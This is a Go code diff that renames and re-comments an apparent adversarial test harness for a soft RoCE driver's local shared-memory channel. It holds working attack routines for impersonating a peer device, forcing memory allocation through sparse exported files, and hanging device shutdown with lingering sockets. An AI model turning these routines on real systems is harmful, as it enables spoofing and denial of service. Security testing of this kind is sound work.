@@ -16,38 +16,38 @@ import (
 	"github.com/verbena-rdma/verbena/soft/internal/roce/wire"
 )
 
-// Of the protocol of package local, which takes no process that an attacker could be.
+// These belong to the protocol of package local, which an attacker of another user cannot speak.
 const (
-	neighbourName     = "@verbena/local/"
-	neighbourGreeting = "verbena local 5"
-	ringLen           = 4096 + 1<<20
-	firstRecord       = 4096 // in a ring
-	kindReference     = 3    // a record whose payload lies in memory that was shown
-	referenceLen      = 16
-	longestPayload    = 64 << 10
+	localNamePrefix    = "@verbena/local/"
+	localRequestPrefix = "verbena local 5"
+	ringLen            = 4096 + 1<<20
+	firstRecord        = 4096 // in a ring
+	kindReference      = 3    // a record whose payload is in exported memory
+	referenceLen       = 16
+	longestPayload     = 64 << 10
 )
 
-// neighbour is the attacker's end of shared memory with a victim's device.
-type neighbour struct {
-	conn    *net.UnixConn
-	memory  []byte        // the ring of the attacker's records, and that of the victim's
-	tail    int           // of the attacker's records
-	shown   atomic.Uint32 // the number of the memory that the victim has mapped last
-	pings   uint32
-	answers chan uint32
+// localChannel is the attacker's end of shared memory with a victim's device.
+type localChannel struct {
+	conn   *net.UnixConn
+	memory []byte        // the ring that the attacker writes, and the ring that the victim writes
+	tail   int           // of the attacker's records
+	mapped atomic.Uint32 // number of the memory that the victim mapped last
+	pings  uint32
+	pongs  chan uint32
 }
 
 func localName(a local.Address) *net.UnixAddr {
-	return &net.UnixAddr{Name: neighbourName + a.String(), Net: "unixpacket"}
+	return &net.UnixAddr{Name: localNamePrefix + a.String(), Net: "unixpacket"}
 }
 
-// shardOf is where the shard of a queue pair is found.
+// shardOf returns the address of a queue pair's shard.
 func shardOf(device netip.AddrPort, qpn uint32) local.Address {
 	return local.Address{Device: device, Shard: int(qpn & 15)}
 }
 
-// own takes the name of a device, and answers nobody.
-func own(a local.Address) (*net.UnixListener, error) {
+// takeName listens under the name of a device, and closes all connections.
+func takeName(a local.Address) (*net.UnixListener, error) {
 	l, err := net.ListenUnix("unixpacket", localName(a))
 	if err != nil {
 		return nil, err
@@ -64,22 +64,22 @@ func own(a local.Address) (*net.UnixListener, error) {
 	return l, nil
 }
 
-// join joins the shared memory of a device in the name of another.
-func join(from, to local.Address) (*neighbour, error) {
+// openChannel opens a channel to a device, and pretends to be another device.
+func openChannel(from, to local.Address) (*localChannel, error) {
 	conn, err := net.DialUnix("unixpacket", nil, localName(to))
 	if err != nil {
 		return nil, err
 	}
-	n := &neighbour{conn: conn, answers: make(chan uint32, 16)}
-	if err := n.greet(from, to); err != nil {
-		n.leave()
+	n := &localChannel{conn: conn, pongs: make(chan uint32, 16)}
+	if err := n.handshake(from, to); err != nil {
+		n.close()
 		return nil, err
 	}
-	go n.answer()
+	go n.serve()
 	return n, nil
 }
 
-func (n *neighbour) greet(from, to local.Address) error {
+func (n *localChannel) handshake(from, to local.Address) error {
 	fd, err := unix.MemfdCreate("rings", unix.MFD_ALLOW_SEALING|unix.MFD_CLOEXEC)
 	if err != nil {
 		return err
@@ -94,21 +94,23 @@ func (n *neighbour) greet(from, to local.Address) error {
 	if _, err := unix.FcntlInt(uintptr(fd), unix.F_ADD_SEALS, unix.F_SEAL_SHRINK|unix.F_SEAL_GROW|unix.F_SEAL_SEAL); err != nil {
 		return err
 	}
-	_ = n.conn.SetDeadline(time.Now().Add(patience))
-	if _, _, err = n.conn.WriteMsgUnix(fmt.Appendf(nil, "%s %v %v", neighbourGreeting, from, to), unix.UnixRights(fd), nil); err != nil {
+	_ = n.conn.SetDeadline(time.Now().Add(hangTimeout))
+	if _, _, err = n.conn.WriteMsgUnix(fmt.Appendf(nil, "%s %v %v", localRequestPrefix, from, to), unix.UnixRights(fd), nil); err != nil {
 		return err
 	}
 	b := make([]byte, 256)
 	m, err := n.conn.Read(b)
 	if err == nil && string(b[:m]) != "taken" {
-		err = errors.New(string(b[:m]))
+		err = fmt.Errorf("%w: %q", errRefused, b[:m])
 	}
 	return err
 }
 
-// answer says that the attacker is there, as often as the victim asks, and takes answers.
-func (n *neighbour) answer() {
-	defer close(n.answers)
+var errRefused = errors.New("the victim refused the channel")
+
+// serve replies to the victim's pings, and receives its replies.
+func (n *localChannel) serve() {
+	defer close(n.pongs)
 	b := make([]byte, 256)
 	for {
 		m, err := n.conn.Read(b)
@@ -120,15 +122,15 @@ func (n *neighbour) answer() {
 			b[0] = 'q'
 			_, _ = n.conn.Write(b[:m])
 		case 'q':
-			n.answers <- number
+			n.pongs <- number
 		case 'a':
-			n.shown.Store(number)
+			n.mapped.Store(number)
 		}
 	}
 }
 
-// say sends a message with a number and perhaps files.
-func (n *neighbour) say(kind byte, number uint32, files ...int) error {
+// sendMessage sends a message with a number, and optionally files.
+func (n *localChannel) sendMessage(kind byte, number uint32, files ...int) error {
 	var rights []byte
 	if len(files) > 0 {
 		rights = unix.UnixRights(files...)
@@ -137,20 +139,20 @@ func (n *neighbour) say(kind byte, number uint32, files ...int) error {
 	return err
 }
 
-// show gives the victim memory, and reports whether it has mapped it.
-func (n *neighbour) show(number uint32, fd int) (bool, error) {
+// export exports memory to the victim, and reports whether the victim has mapped it.
+func (n *localChannel) export(number uint32, fd int) (bool, error) {
 	n.pings++
-	if err := errors.Join(n.say('s', number, fd), n.say('p', n.pings)); err != nil {
+	if err := errors.Join(n.sendMessage('s', number, fd), n.sendMessage('p', n.pings)); err != nil {
 		return false, err
 	}
-	if answer, ok := <-n.answers; !ok || answer != n.pings {
+	if answer, ok := <-n.pongs; !ok || answer != n.pings {
 		return false, errors.New("the victim has ended the channel")
 	}
-	return n.shown.Load() == number, nil
+	return n.mapped.Load() == number, nil
 }
 
-// write sends a packet whose payload is memory that was shown.
-func (n *neighbour) write(p *wire.Packet, number uint32, offset uint64, length int) error {
+// write sends a packet whose payload is in exported memory.
+func (n *localChannel) write(p *wire.Packet, number uint32, offset uint64, length int) error {
 	at, headers := firstRecord+n.tail, p.Opcode.HeaderLen()
 	begin := (16 + headers + 15) &^ 15
 	size := (begin + referenceLen + 63) &^ 63
@@ -163,50 +165,50 @@ func (n *neighbour) write(p *wire.Packet, number uint32, offset uint64, length i
 	binary.NativeEndian.PutUint64(record[size:], 0)
 	atomic.StoreUint64(wordOf(record), uint64(size)|kindReference<<32|uint64(headers)<<40)
 	n.tail += size
-	return n.say('w', 0)
+	return n.sendMessage('w', 0)
 }
 
-// heard reports whether the victim has sent a packet.
-func (n *neighbour) heard() bool {
+// received reports whether the victim has sent a packet.
+func (n *localChannel) received() bool {
 	return binary.NativeEndian.Uint64(n.memory[ringLen+firstRecord:]) != 0
 }
 
-func (n *neighbour) leave() {
+func (n *localChannel) close() {
 	_ = n.conn.Close()
 	if n.memory != nil {
 		_ = unix.Munmap(n.memory)
 	}
 }
 
-// impersonate joins the device of the right busy end in the name of its peer, until that sends
-// packets to the attacker.
+// impersonate opens channels to the device of the right busy end, as its peer, until that device
+// sends packets to the attacker.
 func impersonate(a *attacker) error {
 	left, right := &a.ends[busy], &a.ends[2+busy]
 	from, to := shardOf(left.Addr, left.QPN), shardOf(right.Addr, right.QPN)
-	name, err := own(from)
+	name, err := takeName(from)
 	if err != nil {
 		return err
 	}
 	defer func() { _ = name.Close() }()
 	for !a.stopped() {
 		a.others++
-		n, err := join(from, to)
+		n, err := openChannel(from, to)
 		for err == nil && !a.stopped() {
-			if n.heard() {
+			if n.received() {
 				a.achieved(impersonated, "%v sent a packet for %v to another process", to, from)
 				break
 			}
 			time.Sleep(time.Millisecond)
 		}
 		if err == nil {
-			n.leave()
+			n.close()
 		}
 		time.Sleep(10 * time.Millisecond)
 	}
 	return nil
 }
 
-// sealedFile makes a file in memory that may be shown to victims.
+// sealedFile makes a memory file that can be exported to victims.
 func sealedFile(length int64, allocated bool) (fd int, err error) {
 	if fd, err = unix.MemfdCreate("memory", unix.MFD_ALLOW_SEALING|unix.MFD_CLOEXEC); err != nil {
 		return fd, err
@@ -220,24 +222,28 @@ func sealedFile(length int64, allocated bool) (fd int, err error) {
 	return fd, err
 }
 
-// fillMemory is a peer that writes from memory that it has not allocated: to read it allocates it.
-// Then it writes from memory that it has allocated, which is taken.
+// fillMemory is a peer that writes from memory without allocated pages: reading it would allocate
+// them. Then it writes from allocated memory, which the victim accepts.
 func fillMemory(a *attacker) error {
 	s, t, err := a.target("")
 	if err != nil {
 		return a.unlessStopped(err)
 	}
 	from, to := shardOf(s.from, attackerQPN), shardOf(t.Addr, t.QPN)
-	name, err := own(from)
+	name, err := takeName(from)
 	if err != nil {
 		return err
 	}
 	defer func() { _ = name.Close() }()
-	n, err := join(from, to)
-	if err != nil {
-		return fmt.Errorf("join the victim: %w", err)
+	n, err := openChannel(from, to)
+	for errors.Is(err, errRefused) && !a.stopped() { // the victim is dialling the attacker
+		time.Sleep(time.Millisecond)
+		n, err = openChannel(from, to)
 	}
-	defer n.leave()
+	if err != nil {
+		return a.unlessStopped(fmt.Errorf("open shared memory with the victim: %w", err))
+	}
+	defer n.close()
 	psn := uint32(attackerPSN)
 	write := func(number uint32, offset uint64) error {
 		p := wire.Packet{Opcode: wire.RCWriteOnly, DestQP: t.QPN, PSN: psn, PKey: 0xffff, AckReq: true, RETH: wire.RETH{VA: t.Addr64, RKey: t.RKey, Length: longestPayload}}
@@ -250,7 +256,7 @@ func fillMemory(a *attacker) error {
 		return err
 	}
 	defer func() { _ = unix.Close(sparse) }()
-	switch mapped, err := n.show(1, sparse); {
+	switch mapped, err := n.export(1, sparse); {
 	case err != nil:
 		return err
 	case mapped:
@@ -265,7 +271,7 @@ func fillMemory(a *attacker) error {
 		return err
 	}
 	defer func() { _ = unix.Close(full) }()
-	switch mapped, err := n.show(2, full); {
+	switch mapped, err := n.export(2, full); {
 	case err != nil:
 		return err
 	case !mapped:
@@ -287,8 +293,8 @@ func fillMemory(a *attacker) error {
 	return nil
 }
 
-// lingering is a TCP socket that takes an hour to close, unless its reader is closed before: it has
-// data that nobody reads.
+// lingering returns a TCP socket that takes an hour to close, unless its reader is closed first: it
+// has unsent data.
 func lingering() (file *os.File, reader net.Conn, err error) {
 	l, err := net.Listen("tcp", "127.0.0.1:0")
 	if err != nil {
@@ -314,7 +320,8 @@ func lingering() (file *os.File, reader net.Conn, err error) {
 	return file, reader, errors.Join(err, tcp.Close())
 }
 
-// lingerFiles sends files that take long to close to a device, and has it closed.
+// lingerFiles sends files that take long to close to a device, and lets the victim close the
+// device.
 func lingerFiles(a *attacker) error {
 	var files []*os.File
 	for range 40 {
@@ -336,7 +343,7 @@ func lingerFiles(a *attacker) error {
 		}
 		defer func() { _ = conn.Close() }()
 		_, _, err = conn.WriteMsgUnix([]byte("hello"), unix.UnixRights(int(file.Fd())), nil)
-		go func() { _ = file.Close() }() // whoever is the last to close it waits
+		go func() { _ = file.Close() }() // the last holder to close it waits
 		if err == nil {
 			a.others++
 		}
